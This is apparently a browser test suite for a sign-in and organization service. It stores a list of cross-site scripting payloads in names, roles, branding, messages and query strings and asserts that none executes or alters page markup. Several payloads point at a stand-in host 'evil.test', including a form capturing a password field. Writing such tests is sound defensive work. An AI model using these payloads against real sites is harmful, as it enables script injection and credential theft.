// What people put into fields to get script into a page: in every field that is stored or comes back, seen where it is
// shown, in hosted pages, letters and the console. None runs, none is even stopped by the policy of the page, and none
// changes a page's markup.

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { launch, openContext } from "./browser.mjs";
import { openConsole, title } from "./console_pages.mjs";
import { Gatehouse, password } from "./gatehouse.mjs";

/** hit() is a function of every page that is looked at, so that whoever runs it is heard. */
const payloads = [
  "<script>hit()</script>", "<ScRiPt src=//evil.test/x.js></sCrIpT>", "\"><script>hit()</script>", "'><script>hit()</script>",
  "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</style><script>hit()</script>", "--><script>hit()</script>",
  "]]><script>hit()</script>", "<!--<script>hit()</script>", "<![CDATA[<img src=x onerror=hit()>]]>", "<?xml version=\"1.0\"?>",
  "<!doctype html>", "<img src=x onerror=hit()>", "<img src=\"x\" onerror=\"alert(1)\">", "<img/src/onerror=hit()>",
  "<svg onload=hit()>", "<svg/onload=hit``>", "<svg><animate onbegin=hit()>", "<svg><a xlink:href=\"javascript:hit()\">x</a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<body onload=hit()>", "<iframe src=javascript:hit()>",
  "<iframe srcdoc=\"<script>top.hit()</script>\">", "<object data=javascript:hit()>", "<embed src=javascript:hit()>",
  "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
  "<form action=//evil.test><input name=password>", "</form><form action=//evil.test>", "<button formaction=//evil.test>x",
  "<input autofocus onfocus=hit()>", "<details open ontoggle=hit()>", "<video><source onerror=hit()>", "<audio src onerror=hit()>",
  "<marquee onstart=hit()>", "<a href=javascript:hit()>x</a>", "<a href=\"data:text/html,<script>hit()</script>\">x</a>",
  "<template><script>hit()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
  "<xmp><img src=x onerror=hit()></xmp>", "<plaintext>", "<style>*{background:url(//evil.test)}</style>", "<x onclick=hit()>x",
  "<x/onclick=hit()//", "<", "<a", "</main>", "< script >hit()</ script >", "<<script>hit()//<</script>", "\" onmouseover=\"hit()",
  "' onmouseover='hit()", "\" autofocus onfocus=hit() x=\"", "x\" style=\"position:fixed;inset:0\" y=\"", "javascript:hit()",
  "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "&quot; onclick=&quot;hit()",
  "{{constructor.constructor('hit()')()}}${hit()}<%= hit() %>", "%3Cscript%3Ehit()%3C/script%3E", "\u017fcript\uff1cscript\uff1ehit()",
];
const harmless = "harmless";
/** As long as one may be. */
const roleName = (text) => [...text].slice(0, 40).join("");

let browser, gatehouse;
before(async () => { [browser, gatehouse] = await Promise.all([launch(), Gatehouse.start()]); });
after(async () => { await browser.close(); await gatehouse.stop(); });

/** Hears what runs, what the policies stop and report, and which dialogs open: nothing, if all is well. */
async function listen(context) {
  const seen = [];
  // The policies of our pages name nobody to report to; here they do.
  await context.route((url) => url.pathname === "/reported", (route) => { seen.push(`reported: ${route.request().postData()}`); return route.fulfill({ status: 204 }); });
  await context.route((url) => url.pathname !== "/reported", async (route) => {
    const request = route.request();
    if (!request.isNavigationRequest() || request.method() !== "GET") return route.fallback();
    const response = await route.fetch({ maxRedirects: 0 });
    const headers = response.headers();
    headers["content-security-policy"] += "; report-uri /reported";
    return route.fulfill({ response, headers });
  });
  await context.exposeBinding("hit", ({ frame }) => { seen.push(`script ran on ${frame.url()}`); });
  await context.exposeBinding("stopped", ({ frame }, what) => { seen.push(`stopped on ${frame.url()}: ${what}`); });
  await context.addInitScript(() => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => globalThis.stopped(`${effectiveDirective} ${blockedURI} ${sample}`));
  });
  context.on("page", (page) => page.on("dialog", (dialog) => { seen.push(`a dialog on ${page.url()}`); void dialog.dismiss(); }));
  return seen;
}

/** The tags of all frames with the names of their attributes: what a payload would change that got out of its text. */
async function shapeOf(page) {
  const shapes = await Promise.all(page.frames().map((frame) => frame.evaluate(() =>
    [...document.querySelectorAll("*")].map((element) => element.tagName + [...element.getAttributeNames()].sort().map((name) => `[${name}]`).join("")).join(" "))));
  return shapes.join("\n");
}

async function ask(status, method, path, token, body, headers = {}) {
  const answer = await fetch(gatehouse.origin + path, { method, body: body && JSON.stringify(body), headers: { Accept: "application/json", ...(body ? { "Content-Type": "application/json" } : {}), ...(token ? { Authorization: `Bearer ${token}` } : {}), ...headers } });
  const text = await answer.text();
  assert.equal(answer.status, status, `${method} ${path} ${JSON.stringify(body)}: ${text}`);
  return text === "" ? undefined : JSON.parse(text);
}

/** In batches, since a hundred at once are more than the service lets wait. */
async function forEach(items, work) {
  const results = [];
  for (let at = 0; at < items.length; at += 8) results.push(...await Promise.all(items.slice(at, at + 8).map((item, index) => work(item, at + index))));
  return results;
}

const founder = {};
/** An organization each whose every name is the payload, beside one in which all is harmless. */
async function makeTenants() {
  founder.email = "owner@first.example";
  Object.assign(founder, await gatehouse.founder(founder.email, "First"));
  await ask(200, "POST", "/v1/email/verify", undefined, { token: (await gatehouse.letter(founder.email, "/verify-email")).link.split("token=")[1] });
  return forEach([harmless, ...payloads], async (text, index) => {
    const { id } = await ask(201, "POST", "/v1/organizations", founder.token, { name: text, slug: `tenant-${index}` });
    const here = `/v1/organizations/${id}`;
    await ask(201, "POST", `${here}/roles`, founder.token, { name: roleName(text), key: "payload", description: text, permissions: [] });
    await ask(200, "PATCH", `${here}/branding`, founder.token, { name: text, support_url: "https://acme.example/help" });
    const guest = `guest${index}@first.example`;
    await ask(201, "POST", `${here}/invitations`, founder.token, { email: guest, role: "payload", message: text });
    return { text, id, guest, slug: `tenant-${index}` };
  });
}

describe("what people type", { timeout: 120_000 }, () => {
  let tenants, context, troubles, seen, page, tabs;
  before(async () => {
    tenants = await makeTenants();
    ({ context, troubles } = await openContext(browser, gatehouse.origin));
    seen = await listen(context);
    tabs = await Promise.all(Array.from({ length: 4 }, () => context.newPage()));
    [page] = tabs;
  });
  after(() => context.close());

  const nothingHappened = () => {
    assert.deepEqual(seen, []);
    assert.deepEqual(troubles, []);
  };
  /** Opens the address of each; all pages have the markup of the harmless one and say what was typed. */
  async function compare(addressOf, { isSaid = true } = {}) {
    const shapes = new Map();
    const waiting = [...tenants];
    await Promise.all(tabs.map(async (tab) => {
      for (let tenant = waiting.shift(); tenant; tenant = waiting.shift()) {
        await tab.goto(gatehouse.origin + addressOf(tenant));
        shapes.set(tenant, await shapeOf(tab));
        if (isSaid) assert.ok((await tab.locator("body").innerText()).includes(tenant.text), `${tenant.text} is not said on ${tab.url()}`);
      }
    }));
    for (const [tenant, shape] of shapes) assert.equal(shape, shapes.get(tenants[0]), `${tenant.text} changes ${addressOf(tenant)}`);
    nothingHappened();
  }
  const query = encodeURIComponent;

  it("would be heard if it ran, was stopped or opened a dialog", async () => {
    const { context: loud, troubles: told } = await openContext(browser, gatehouse.origin);
    const heard = await listen(loud);
    await loud.route("**/loud", (route) => route.fulfill({ contentType: "text/html", headers: { "Content-Security-Policy": "default-src 'none'; script-src 'nonce-1'; report-uri /reported" }, body: "<script>hit()</script><script nonce=1>hit(); alert(1)</script><img src=x onerror=hit()>" }));
    const one = await loud.newPage();
    const report = one.waitForRequest("**/reported");
    await one.goto(`${gatehouse.origin}/loud`);
    await report;
    assert.ok(heard.some((what) => what.startsWith("script ran")) && heard.some((what) => what.startsWith("a dialog")), heard.join());
    assert.equal(heard.filter((what) => /stopped .*script-src/.test(what)).length, 2, heard.join());
    assert.ok(told.length > 0);
    assert.ok(heard.some((what) => /^reported: .*script-src/.test(what)), heard.join());
    await loud.close();
  });

  it("in the address of the sign-in stays text", async () => {
    await compare(({ text }) => `/sign-in?organization=${query(text)}&return_to=${query(`/a?b=${query(text)}`)}&lang=${query(text)}`, { isSaid: false });
    await compare(({ text }) => `/sign-up?return_to=${query(text)}&lang=${query(text)}`, { isSaid: false });
  });

  it("as names, roles, messages and branding stays text where people are invited and sign in", async () => {
    const links = await forEach(tenants, async ({ guest }) => (await gatehouse.letter(guest, "/accept-invite")).link.replace(gatehouse.origin, ""));
    await compare((tenant) => links[tenants.indexOf(tenant)]);
    await compare(({ slug }) => `/sign-in?organization=${slug}`);
  });

  it("stays text in letters, in both parts", async () => {
    const numbers = await forEach(tenants, async ({ guest }) => (await gatehouse.letter(guest, "/accept-invite")).number);
    // Cut and unlinked there, so it reads otherwise.
    await compare((tenant) => `/dev/mail/${numbers[tenants.indexOf(tenant)]}`, { isSaid: false });
  });

  it("stays text on the pages of an account, also as the name of a device", async () => {
    const plain = payloads.filter((text) => /^[ -~]+$/.test(text));
    await forEach(plain, (text) => ask(200, "POST", "/signin", undefined, { email: founder.email, password }, { "User-Agent": text }));
    await page.goto(`${gatehouse.origin}/sign-in`);
    await page.getByLabel("Email address").fill(founder.email);
    await page.getByLabel("Password").fill(password);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await page.waitForURL(/choose-organization/);
    // Organizations stand there by the name, and one after the other has the markup of the first.
    for (const path of ["/choose-organization", "/account/leave"]) {
      await page.goto(gatehouse.origin + path);
      const shapes = await page.locator("main li").evaluateAll((items) => items.map((item) => [...item.querySelectorAll("*")].map((element) => element.tagName + element.getAttributeNames().join()).join()));
      assert.ok(shapes.length > payloads.length, `${path}: ${shapes.length}`);
      assert.ok(new Set(shapes).size <= 2, [...new Set(shapes)].join("\n"));
    }
    let devices = 0;
    for (let address = `${gatehouse.origin}/account/sessions`; address;) {
      await page.goto(address);
      const rows = await page.locator("tbody tr").evaluateAll((items) => items.map((item) => [...item.querySelectorAll("*")].map((element) => element.tagName + element.getAttributeNames().join()).join()));
      devices += rows.length;
      assert.ok(new Set(rows).size <= 2, [...new Set(rows)].join("\n"));
      const more = page.locator("main a[href*='after=']");
      address = (await more.count()) ? new URL(await more.first().getAttribute("href"), gatehouse.origin).href : undefined;
    }
    assert.ok(devices > plain.length, `${devices} sessions`);
    for (const text of payloads.slice(0, 20)) {
      await ask(200, "PATCH", "/v1/me", founder.token, { name: text, given_name: text, family_name: text });
      await page.goto(`${gatehouse.origin}/account/profile`);
      assert.equal(await page.locator("input[name=name]").inputValue(), text);
    }
    nothingHappened();
  });

  it("is refused as a color and as a link, or is a link like any other", async () => {
    const { id, slug } = tenants[0];
    for (const text of payloads) {
      for (const field of ["button_color", "dark_button_text_color", "privacy_url"]) await ask(400, "PATCH", `/v1/organizations/${id}/branding`, founder.token, { [field]: text });
      await ask(/^[!#-;=?-[\]_a-z~]*$/.test(text) ? 200 : 400, "PATCH", `/v1/organizations/${id}/branding`, founder.token, { terms_url: `https://acme.example/?q=${text}` });
    }
    await page.goto(`${gatehouse.origin}/sign-in?organization=${slug}`);
    assert.ok((await page.getByRole("contentinfo").getByRole("link").evaluateAll((links) => links.map((link) => link.origin))).every((origin) => origin === "https://acme.example"));
    nothingHappened();
  });

  it("stays text in the console", async () => {
    // One organization with all of it.
    const owner = { email: "owner@second.example", ...await gatehouse.founder("owner@second.example", "Second") };
    await ask(200, "POST", "/v1/email/verify", undefined, { token: (await gatehouse.letter(owner.email, "/verify-email")).link.split("token=")[1] });
    const here = `/v1/organizations/${owner.organization.id}`;
    await forEach(payloads, async (text, index) => {
      await ask(201, "POST", `${here}/roles`, owner.token, { name: roleName(`${index} ${text}`), key: `payload_${index}`, description: text, permissions: [] });
      await ask(201, "POST", `${here}/api-keys`, owner.token, { name: text, permissions: ["members:read"] });
      await ask(201, "POST", `${here}/invitations`, owner.token, { email: `member${index}@second.example`, role: `payload_${index}`, message: text });
      const { link } = await gatehouse.letter(`member${index}@second.example`, "/accept-invite");
      await ask(200, "POST", "/accept-invite", undefined, { token: link.split("token=")[1], email: `member${index}@second.example`, password });
      const member = (await gatehouse.signIn(`member${index}@second.example`)).access_token;
      await ask(200, "PATCH", "/v1/me", member, { name: text });
      await ask(201, "POST", `${here}/invitations`, owner.token, { email: `guest${index}@other.example`, role: `payload_${index}`, message: text });
    });
    const { context: inside, page: console, close } = await openConsole(browser, gatehouse, { email: owner.email, expected: [/^400 .*\/members\?/] });
    const heard = await listen(inside);
    const bad = () => console.evaluate(() => [...document.querySelectorAll("main *")].filter((element) =>
      /^(SCRIPT|IMG|IFRAME|OBJECT|EMBED|BASE|STYLE|LINK|META|VIDEO|AUDIO|MARQUEE|MATH|TEMPLATE|XMP|PLAINTEXT|X|DETAILS|BODY)$/i.test(element.tagName) || element.getAttributeNames().some((name) => name.startsWith("on"))).map((element) => element.outerHTML));
    const visit = async (path) => {
      await console.goto(`${gatehouse.origin}/console${path}`);
      await title(console);
      assert.deepEqual(await bad(), [], path);
    };
    for (const path of ["", "/members", "/members?limit=100", "/invitations", "/api-keys", "/audit", "/settings", "/branding", "/policies", "/statistics?table=roles"]) await visit(path);
    await visit("/roles");
    const said = await console.locator("main").innerText();
    for (const [index, payload] of payloads.entries()) assert.ok(said.includes(roleName(`${index} ${payload}`)), payload);
    // Each where one searches, and as the name of the organization and its branding.
    for (const payload of payloads) {
      await console.evaluate((path) => { history.pushState(null, "", path); dispatchEvent(new PopStateEvent("popstate")); }, `/console/members?q=${query(payload)}&role=${query(payload)}&sort=${query(payload)}`);
      await title(console);
      assert.deepEqual(await bad(), [], payload);
    }
    for (const payload of payloads.slice(0, 10)) {
      await ask(200, "PATCH", here, owner.token, { name: payload });
      await ask(200, "PATCH", `${here}/branding`, owner.token, { name: payload });
      await visit("/branding");
      assert.equal(await console.locator(".preview-name").first().innerText(), payload);
    }
    assert.deepEqual(heard, []);
    await close();
  });
});
